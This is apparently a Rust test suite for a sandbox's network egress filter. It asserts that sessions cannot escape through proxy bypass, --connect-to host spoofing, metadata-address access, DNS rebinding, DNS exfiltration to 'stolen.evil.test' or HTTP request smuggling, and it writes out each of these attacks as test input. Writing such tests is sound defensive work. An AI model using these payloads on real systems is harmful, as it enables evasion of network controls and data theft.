//! What a session may not reach it does not, however it asks. Each way is shown to work without the sandbox.

use std::net::{TcpListener, TcpStream, UdpSocket};
use std::time::Duration;

use fullsend_sandbox::SandboxSessionId;

use super::allowed::{CURL, WITHOUT_PROXY, has};
use super::world::{World, session};
use crate::support::context::{Context, text};

/// Addresses of the other machine at which something answers.
const ADDRESSES: [&str; 7] = [
    "140.82.112.3:443",
    "140.82.112.3:22",
    "140.82.112.3:80",
    "140.82.112.4:443",
    "10.0.0.5:80",
    "169.254.169.254:80",
    "[2606:50c0:8000::3]:80",
];

/// Sends bytes to a port of the session's own loopback and prints what comes back.
async fn send(cx: &Context, id: &SandboxSessionId, to: &str, bytes: &str) -> String {
    let script = "import os, socket, sys\n\
        s = socket.create_connection(eval(os.environ['TO']), 10)\n\
        s.sendall(os.environ['BYTES'].encode().decode('unicode_escape').encode('latin-1'))\n\
        s.settimeout(10)\n\
        try:\n  \
          while True:\n    \
            got = s.recv(65536)\n    \
            if not got: break\n    \
            sys.stdout.buffer.write(got)\n\
        except OSError as error: print('ended:', error)\n";
    let mut request = cx.marked(fullsend_sandbox::ExecRequest::new("/usr/bin/python3", ["-c", script]));
    request.env.insert("TO".to_owned(), to.to_owned());
    request.env.insert("BYTES".to_owned(), bytes.to_owned());
    text(&cx.exec(id, request).await)
}

/// The session's proxy, as a Python expression.
const PROXY: &str = "('127.0.0.1', int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1]))";

pub(crate) async fn addresses_are_out_of_reach(cx: &Context) {
    let id = session(cx, &["ok.test"]).await;
    if !has(cx, &id, "curl").await || !has(cx, &id, "/usr/bin/python3").await {
        return;
    }
    let world = World::here();
    for address in ADDRESSES {
        let stream = TcpStream::connect_timeout(&address.parse().unwrap(), Duration::from_secs(10));
        assert!(stream.is_ok(), "{address} cannot be reached from this machine either");
    }
    crate::support::host::wait_until("arrivals", || world.arrivals().len() == 5);
    for address in ADDRESSES {
        let (host, port) = address.rsplit_once(':').unwrap();
        let bare = host.trim_matches(['[', ']']);
        let script = format!("import socket; socket.create_connection((\"{bare}\", {port}), 5)");
        cx.refused(&id, &format!("/usr/bin/python3 -c '{script}'")).await;
        for way in ["--proxy $HTTP_PROXY", "--proxy $HTTP_PROXY --proxytunnel", "--proxy $ALL_PROXY"] {
            cx.refused(&id, &format!("{CURL} -k -f {way} http://{address}/")).await;
            cx.refused(&id, &format!("{CURL} -k -f {way} https://{address}/")).await;
        }
        cx.refused(&id, &format!("{WITHOUT_PROXY} {CURL} -f http://{address}/")).await;
        // The name is right, and the address is one that it has: still it is not for the session to choose.
        cx.refused(
            &id,
            &format!("{WITHOUT_PROXY} {CURL} --connect-to ok.test:443:{address} https://ok.test/"),
        )
        .await;
    }
    assert_eq!(world.arrivals().len(), 5);
    assert!(world.requests().iter().all(|request| request["head"] == ""), "{:?}", world.requests());
}

pub(crate) async fn other_ports_are_out_of_reach(cx: &Context) {
    let id = session(cx, &["ok.test"]).await;
    if !has(cx, &id, "curl").await {
        return;
    }
    for way in ["", "--proxy $ALL_PROXY", "--proxytunnel"] {
        for url in ["https://ok.test:8443/", "http://ok.test:22/", "https://ok.test:22/"] {
            cx.refused(&id, &format!("{CURL} -f {way} {url}")).await;
            cx.refused(&id, &format!("{WITHOUT_PROXY} {CURL} -f {url}")).await;
        }
    }
    assert_eq!(World::here().requests(), Vec::<serde_json::Value>::new());
    assert_eq!(World::here().arrivals(), Vec::<String>::new());
}

pub(crate) async fn datagrams_are_out_of_reach(cx: &Context) {
    let id = session(cx, &["ok.test"]).await;
    if !has(cx, &id, "/usr/bin/python3").await {
        return;
    }
    let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    socket.send_to(b"x", "140.82.112.3:9999").unwrap();
    assert_eq!(socket.recv(&mut [0; 8]).unwrap(), 1, "this machine cannot send datagrams either");
    for to in ["(\"140.82.112.3\", 9999)", "(\"ok.test\", 9999)", "(\"140.82.112.53\", 53)"] {
        let script = format!(
            "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); \
             s.sendto(b\"x\" * 40, {to}); s.recv(1)"
        );
        cx.refused(&id, &format!("/usr/bin/python3 -c '{script}'")).await;
    }
    assert_eq!(World::here().arrivals(), ["140.82.112.3:9999"]);
    assert_eq!(World::here().questions(), Vec::<String>::new());
}

/// Asks the session's name server; prints the code of each answer.
const ASK: &str = "import random, socket, struct\n\
    def ask(name, kind):\n  \
      labels = b''.join(bytes([len(l) & 63]) + l for l in name.split(b'.'))\n  \
      s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n  \
      s.sendto(struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', kind, 1), ('127.0.0.1', 53))\n  \
      got = s.recv(4096)\n  \
      print(name[:20].decode(), kind, got[3] & 15, int.from_bytes(got[6:8], 'big'))\n";

pub(crate) async fn questions_carry_nothing_out(cx: &Context) {
    let id = session(cx, &["ok.test", "*.wild.test"]).await;
    if !has(cx, &id, "/usr/bin/python3").await {
        return;
    }
    let script = format!(
        "{ASK}\
         for kind in (16, 255, 15, 33, 10, 65): ask(b'ok.test', kind)\n\
         for name in (b'stolen.evil.test', b'a' * 63 + b'.evil.test', b'.'.join([b'a' * 60] * 4) + b'.test'):\n  \
           for kind in (1, 16, 28): ask(name, kind)\n\
         ask(b'ok.test', 1)\n\
         ask(b'ok.test', 28)\n\
         for n in range(500): ask(b'stolen%d.wild.test' % n, 1)\n"
    );
    let request = cx.marked(fullsend_sandbox::ExecRequest::new("/usr/bin/python3", ["-c", &script]));
    let result = cx.exec(&id, request).await;
    assert!(result.success(), "{result:?}");
    let said = text(&result);
    for line in said.lines().take(15) {
        assert!(line.ends_with(" 5 0") || line.ends_with(" 1 0"), "{line}\n{said}");
    }
    assert_eq!(said.lines().skip(15).take(2).collect::<Vec<_>>(), ["ok.test 1 0 1", "ok.test 28 0 0"]);
    cx.refused(&id, "getent hosts stolen.evil.test").await;
    let asked = World::here().questions();
    assert_eq!(asked, Vec::<String>::new(), "questions left this machine");
    // Only a connection makes this machine ask, once, and for nothing but the address.
    cx.out(&id, &format!("{WITHOUT_PROXY} {CURL} https://ok.test/")).await;
    let mut asked = World::here().questions();
    asked.sort();
    assert_eq!(asked, ["1 ok.test", "28 ok.test"]);
}

pub(crate) async fn names_that_lead_inside_are_refused(cx: &Context) {
    let bad = ["private.test", "metadata.test", "loop.test", "own.test", "mapped.test", "nat64.test"];
    let id = session(cx, &bad).await;
    if !has(cx, &id, "curl").await {
        return;
    }
    let world = World::here();
    // What the names would lead to on this machine.
    let _here: Vec<TcpListener> =
        ["127.0.0.1:80", "140.82.112.1:80"].map(|address| TcpListener::bind(address).unwrap()).into();
    for name in bad {
        for prefix in ["", WITHOUT_PROXY] {
            for url in [format!("http://{name}/"), format!("https://{name}/")] {
                let line = format!("{prefix} {CURL} -f {url}");
                let result = cx.sh(&id, &line).await;
                assert!(!result.success(), "{line}: {result:?}");
                let reasons = format!("{:?}", result.denials);
                assert!(reasons.contains(name) || reasons.contains("resolve"), "{line}: {result:?}");
            }
        }
        assert_eq!(world.lookups(name), 4, "once for each connection");
    }
    assert_eq!(world.arrivals(), Vec::<String>::new());
    assert_eq!(world.requests(), Vec::<serde_json::Value>::new());
}

pub(crate) async fn a_name_that_changes_its_address_is_refused(cx: &Context) {
    let id = session(cx, &["rebind.test"]).await;
    if !has(cx, &id, "curl").await {
        return;
    }
    let world = World::here();
    assert_eq!(cx.out(&id, &format!("{CURL} https://rebind.test/")).await, "hello");
    assert_eq!(world.lookups("rebind.test"), 1, "the address that was checked is the one that was used");
    for prefix in ["", WITHOUT_PROXY] {
        cx.refused(&id, &format!("{prefix} {CURL} https://rebind.test/")).await;
        cx.refused(&id, &format!("{prefix} {CURL} -f http://rebind.test/")).await;
    }
    assert_eq!(world.requests().len(), 1);
    assert_eq!(world.requests()[0]["at"], "140.82.112.3:443");
    assert_eq!(world.arrivals(), Vec::<String>::new());
    // Of the addresses in one answer only those that are public are used, however often it is tried.
    let id = session(cx, &["mixed.test"]).await;
    for prefix in ["", WITHOUT_PROXY, "", WITHOUT_PROXY] {
        assert_eq!(cx.out(&id, &format!("{prefix} {CURL} https://mixed.test/")).await, "hello");
    }
    assert!(
        world.requests().iter().all(|request| request["at"] == "140.82.112.3:443"),
        "{:?}",
        world.requests()
    );
}

/// The address is right, the name is another one's.
pub(crate) async fn another_name_at_an_allowed_address_is_refused(cx: &Context) {
    let id = session(cx, &["ok.test"]).await;
    if !has(cx, &id, "curl").await {
        return;
    }
    let to_evil = "--connect-to evil.test:443:ok.test:443 https://evil.test/";
    for way in ["", "--proxy $ALL_PROXY", "--proxytunnel"] {
        cx.refused(&id, &format!("{CURL} {way} {to_evil}")).await;
    }
    cx.refused(&id, &format!("{WITHOUT_PROXY} {CURL} {to_evil}")).await;
    assert!(World::here().requests().is_empty(), "{:?}", World::here().requests());
    // Without the sandbox that is all it takes.
    let authority = World::here().authority().source.join("ca.pem");
    let output = std::process::Command::new("curl")
        .args(["-sS", "--noproxy", "*", "--max-time", "30", "--cacert"])
        .arg(authority)
        .args(to_evil.split(' '))
        .output()
        .unwrap();
    assert_eq!(output.stdout, b"hello", "{output:?}");
}

pub(crate) async fn names_that_only_look_allowed_are_refused(cx: &Context) {
    let id = session(cx, &["ok.test"]).await;
    if !has(cx, &id, "/usr/bin/python3").await {
        return;
    }
    for host in [
        "evilok.test",
        "ok.test.evil.test",
        "ok.test%00.evil.test",
        "ok.test\\x00.evil.test",
        "user@ok.test@evil.test",
        "ok.test@evil.test",
        "evil.test#ok.test",
        "evil.test/ok.test",
        "ok.test evil.test",
        "xn--k-fhb.test",
    ] {
        for request in [
            format!("CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}:443\\r\\n\\r\\n"),
            format!("GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n"),
        ] {
            let answer = send(cx, &id, PROXY, &request).await;
            assert!(answer.starts_with("HTTP/1.1 4"), "{request}: {answer}");
        }
    }
    assert_eq!(World::here().arrivals(), Vec::<String>::new());
    assert_eq!(World::here().questions(), Vec::<String>::new());
}

/// Requests that two readers would read differently, and requests that say two things.
pub(crate) async fn requests_with_two_meanings_are_refused(cx: &Context) {
    let id = session(cx, &["ok.test"]).await;
    if !has(cx, &id, "/usr/bin/python3").await {
        return;
    }
    let evil = "GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
    let through_proxy = [
        "GET http://ok.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n".to_owned(),
        "GET http://ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\nHost: evil.test\\r\\n\\r\\n".to_owned(),
        "GET http://evil.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n".to_owned(),
        "GET http://ok.test@evil.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n".to_owned(),
        "GET //evil.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n".to_owned(),
        "GET ftp://ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n".to_owned(),
        format!(
            "POST http://ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\nContent-Length: {}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{evil}",
            5 + evil.len() / 2
        ),
        format!(
            "POST http://ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\nContent-Length: 0\\r\\nContent-Length: 60\\r\\n\\r\\n{evil}"
        ),
        format!(
            "POST http://ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n{evil}"
        ),
        format!("POST http://ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\nContent-Length : 5\\r\\n\\r\\n{evil}"),
        format!(
            "GET http://ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\nX: a\\nHost: evil.test\\r\\n\\r\\n{evil}"
        ),
        "CONNECT 10.0.0.5:80 HTTP/1.1\\r\\nHost: ok.test:443\\r\\n\\r\\n".to_owned(),
        "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: ok.test:443\\r\\n\\r\\n".to_owned(),
        "CONNECT http://ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n".to_owned(),
    ];
    for request in &through_proxy {
        let answer = send(cx, &id, PROXY, request).await;
        assert!(answer.starts_with("HTTP/1.1 4"), "{request}: {answer}");
    }
    // After a request that is fine, one that is not, on the same connection.
    let fine = "GET http://ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n";
    assert!(send(cx, &id, PROXY, &format!("{fine}{evil}")).await.starts_with("HTTP/1.1 200"));
    // The same without the proxy, and inside a tunnel.
    let hidden = "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n";
    assert!(!send(cx, &id, "('ok.test', 80)", hidden).await.ends_with("plain"));
    let tunnel = format!("CONNECT ok.test:80 HTTP/1.1\\r\\nHost: ok.test:80\\r\\n\\r\\n{hidden}");
    assert!(!send(cx, &id, PROXY, &tunnel).await.ends_with("plain"));
    for request in World::here().requests() {
        let head = request["head"].as_str().unwrap();
        assert!(!head.contains("evil.test"), "{head}");
    }
    // What has one meaning gets through.
    let fine = "GET http://ok.test/ HTTP/1.1\\r\\nHost: ok.test\\r\\nConnection: close\\r\\n\\r\\n";
    assert!(send(cx, &id, PROXY, fine).await.ends_with("plain"));
    let fine = "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\nConnection: close\\r\\n\\r\\n";
    assert!(send(cx, &id, "('ok.test', 80)", fine).await.ends_with("plain"));
}

pub(crate) async fn another_sessions_proxy_is_out_of_reach(cx: &Context) {
    let (one, two) = (session(cx, &["ok.test"]).await, session(cx, &["other.test"]).await);
    if !has(cx, &one, "curl").await {
        return;
    }
    let proxy = cx.out(&one, "echo $HTTP_PROXY").await;
    assert_eq!(cx.out(&one, &format!("{CURL} --proxy {proxy} https://ok.test/")).await, "hello");
    cx.refused(&two, &format!("{CURL} --proxy {proxy} https://ok.test/")).await;
    let address = proxy.trim_start_matches("http://").parse().unwrap();
    assert!(TcpStream::connect_timeout(&address, Duration::from_secs(5)).is_err(), "the host reaches it");
    let none = session(cx, &[]).await;
    cx.refused(&none, &format!("{CURL} --proxy {proxy} https://ok.test/")).await;
    assert_eq!(World::here().requests().len(), 1);
}
